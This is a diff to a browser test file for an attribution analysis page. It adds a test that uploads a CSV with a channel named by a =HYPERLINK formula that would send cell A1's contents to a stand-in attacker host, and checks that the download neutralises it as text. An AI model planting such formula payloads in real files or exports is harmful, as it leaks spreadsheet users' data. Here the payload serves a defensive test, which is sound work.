@@ -173,6 +173,17 @@ test('journeys only (no KPI report): the section alone; text a spreadsheet would
   assert.match(text, /\n"'@a, b",/);
 });
 
+test('a channel named =HYPERLINK(…) is text in the CSV download, as the CLI writes it', { skip }, async () => {
+  const file = join(downloads, 'hostile.csv');
+  writeFileSync(file, 'path,conversions\n"=HYPERLINK(""http://evil.example/?""&A1,""open"") > Search",2\nSearch,1\n');
+  await upload(file);
+  assert.equal(await page.textContent('#attribution table[data-part="conversions"] tbody th'), '=HYPERLINK("http://evil.example/?"&A1,"open")');
+  const { text } = await downloadCsv('hostile attribution.csv');
+  assert.equal(text, cli(file, [], 'csv'));
+  // A leading ' so a spreadsheet shows the text and runs no formula; the field quoted for its commas and quotes.
+  assert.ok(text.split('\n')[1].startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`), text);
+});
+
 /** The transition matrix as the page shows it: {rows: [[from, to, probability]], total, note}. */
 async function shownTransitions() {
   await page.waitForSelector('#attribution-transitions table[data-part="transitions"]', { timeout: 60000 });
@@ -231,7 +242,7 @@ test('the model controls: what cannot be read is explained at its control, the l
   await setOptions({ firstShare: '0.8', lastShare: '0.4' });
   assert.equal(await page.isHidden('#attribution-options-error'), true);
   assert.match(await page.textContent('#attribution-failed'), /position: #NUM! The first and last touches' shares add up to more than 1\./);
-  assert.equal(await page.textContent('#attribution table[data-part="conversions"] tbody td[data-model="position"]'), '#NUM!');
+  assert.equal(await page.getAttribute('#attribution table[data-part="conversions"] tbody td[data-model="position"]', 'data-value'), '#NUM!');
   // Reset: the defaults again, the CLI's default numbers.
   await page.click('#attribution-options button[type="button"]');
   await idle();
@@ -242,9 +253,10 @@ test('a big chain: the transition matrix shows its first rows and says how many 
   // 30 channels in varied paths: more transitions than the page lists.
   const names = Array.from({ length: 30 }, (_, i) => `ch${i}`);
   let seed = 7;
-  const rand = (n) => ((seed = (seed * 1103515245 + 12345) % 2147483648), seed % n);
+  // A linear congruential generator's high bits (its low bits repeat with a short period).
+  const rand = (n) => ((seed = (seed * 1103515245 + 12345) % 2147483648), Math.floor((seed / 2147483648) * n));
   const lines = ['path,total_conversions,total_null'];
-  for (let i = 0; i < 600; i++) lines.push(`${Array.from({ length: 1 + rand(6) }, () => names[rand(30)]).join(' > ')},${rand(3)},${1 + rand(4)}`);
+  for (let i = 0; i < 1500; i++) lines.push(`${Array.from({ length: 1 + rand(6) }, () => names[rand(30)]).join(' > ')},${rand(3)},${1 + rand(4)}`);
   const file = join(downloads, 'big-chain.csv');
   writeFileSync(file, lines.join('\n') + '\n');
   await upload(file);
